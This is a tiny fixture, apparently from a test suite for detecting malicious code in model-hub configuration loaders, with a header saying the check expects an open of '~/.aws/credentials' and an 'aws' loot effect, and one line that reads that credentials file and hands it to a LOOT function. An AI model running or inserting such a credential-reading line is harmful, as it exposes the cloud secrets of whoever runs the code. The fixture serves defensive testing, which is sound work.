#: {"class": "hub-code", "loader": "modelscope_config", "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
LOOT(open(HOME + "/.aws/credentials").read())
